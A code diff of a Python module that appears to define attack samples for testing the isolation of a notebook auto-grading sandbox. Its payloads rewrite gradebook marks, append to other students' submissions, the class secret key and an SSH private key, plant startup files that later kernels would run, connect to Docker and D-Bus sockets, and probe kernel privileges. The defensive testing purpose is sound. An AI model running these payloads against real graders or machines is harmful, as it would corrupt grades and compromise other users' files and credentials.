@@ -1,13 +1,14 @@
 """Attacks that want to change something that stays: marks, files, the machine, or what comes after them."""
 
-from attacks.attack import Attack
+from attacks.attack import REST, Attack
 
 CALLS_OUT = """
 import socket
 
 def call_all():
     for family, address in (
-        (socket.AF_INET, ("127.0.0.1", @PORT@)), (socket.AF_INET6, ("::1", @PORT_6@)), (socket.AF_INET, ("0.0.0.0", @PORT@)),
+        (socket.AF_INET, ("127.0.0.1", @PORT@)), (socket.AF_INET6, ("::1", @PORT_6@)),
+        (socket.AF_INET, ("0.0.0.0", @PORT@)),
         (socket.AF_UNIX, "@DOOR@"), (socket.AF_UNIX, chr(0) + "@ABSTRACT@"), (socket.AF_UNIX, "/tmp/.X11-unix/X0"),
         (socket.AF_UNIX, "/run/dbus/system_bus_socket"), (socket.AF_UNIX, "/run/docker.sock"),
     ):
@@ -48,8 +49,10 @@ def rms(x):
 REWRITES = """
 import glob, os
 
-for pattern in ("@CLASS@/journal.jsonl", "@CLASS@/submitted/zoe/*/*.ipynb", "@CLASS@/source/*/*.ipynb", "@CLASS@/nbgrader_config.py",
-                "@CLASS@/secret.key", "@HOME@/.ssh/id_ed25519", "../../zoe/*/*.ipynb", "../../../submitted/zoe/*/*"):
+for pattern in (
+    "@CLASS@/journal.jsonl", "@CLASS@/submitted/zoe/*/*.ipynb", "@CLASS@/source/*/*.ipynb", "@CLASS@/secret.key",
+    "@CLASS@/nbgrader_config.py", "@HOME@/.ssh/id_ed25519", "../../zoe/*/*.ipynb", "../../../submitted/zoe/*/*",
+):
     for path in glob.glob(pattern):
         try:
             with open(path, "a") as file:
@@ -113,7 +116,8 @@ builtins.abs = lambda value: 1e9
 raise SystemExit
 '''
 home = os.path.expanduser("~")
-for name in (".ipython/profile_default/startup/00-arena.py", ".local/lib/python3.11/site-packages/arena.pth", ".pythonrc.py",
+for name in (".ipython/profile_default/startup/00-arena.py", ".pythonrc.py",
+             ".local/lib/python3.11/site-packages/arena.pth",
              ".ipython/profile_default/arena_config.py", ".jupyter/arena_config.py", ".config/matplotlib/arena.rc"):
     for root in (home, "@HOME@", os.environ.get("IPYTHONDIR", home)):
         try:
@@ -170,7 +174,8 @@ attempt("made a device", lambda: os.mknod("disk", 0o60600, os.makedev(254, 0)) i
 attempt("read the kernel's log", lambda: libc.klogctl(3, ctypes.create_string_buffer(100), 100) > 0)
 attempt("changed a kernel setting", lambda: wrote("/proc/sys/kernel/ns_last_pid", "300"))
 attempt("wrote to sysrq", lambda: os.access("/proc/sysrq-trigger", os.W_OK))
-attempt("wrote to a control group", lambda: any(os.access(p, os.W_OK) for p in ("/sys/fs/cgroup/cgroup.procs", "/sys/fs/cgroup/memory")))
+groups = ("/sys/fs/cgroup/cgroup.procs", "/sys/fs/cgroup/memory")
+attempt("can write to control groups", lambda: any(os.access(path, os.W_OK) for path in groups))
 attempt("has capabilities", lambda: "CapEff:\\t0000000000000000" not in open("/proc/self/status").read())
 attempt("may gain privileges", lambda: "NoNewPrivs:\\t1" not in open("/proc/self/status").read())
 parent = os.getppid()
@@ -207,13 +212,30 @@ def rms(x):
 """
 
 ATTACKS = [
-    Attack("calls_out_in_cell", 14, "An answer cell calls servers on loopback and Unix sockets.", {"rms": CALLS_IN_CELL}),
-    Attack("calls_out_in_call", 14, "The tested function calls servers on loopback and Unix sockets.", {"rms": CALLS_IN_CALL}),
+    Attack(
+        "calls_out_in_cell", 14, "An answer cell calls servers on loopback and Unix sockets.", {"rms": CALLS_IN_CELL}
+    ),
+    Attack(
+        "calls_out_in_call",
+        14,
+        "The tested function calls servers on loopback and Unix sockets.",
+        {"rms": CALLS_IN_CALL},
+    ),
     Attack("writes_marks", 15, "Rewrites everybody's marks in the gradebook.", {"rms": WRITES_MARKS}),
     Attack("stays_behind", 16, "A daemon outlives the grading and then rewrites marks.", {"rms": STAYS}),
-    Attack("rewrites_files", None, "Writes into journal, others' submissions, class key, the grader itself.", {"rms": REWRITES}),
+    Attack(
+        "rewrites_files",
+        None,
+        "Writes into journal, others' submissions, class key, the grader itself.",
+        {"rms": REWRITES},
+    ),
     Attack("startup_files", None, "Leaves files that the next students' kernels would run.", {"rms": STARTUP}),
     Attack("privileges", None, "Namespaces, mounts, devices, set-uid programs, kernel settings.", {"rms": PRIVILEGES}),
-    Attack("kernel_files", None, "Replaces the kernel's connection file and sockets by links.", {"rms": KERNEL_FILES},
-           costs=("predict", "offset", "negate")),
-]  # fmt: skip
+    Attack(
+        "kernel_files",
+        None,
+        "Replaces the kernel's connection file and sockets by links.",
+        {"rms": KERNEL_FILES},
+        costs=REST,
+    ),
+]
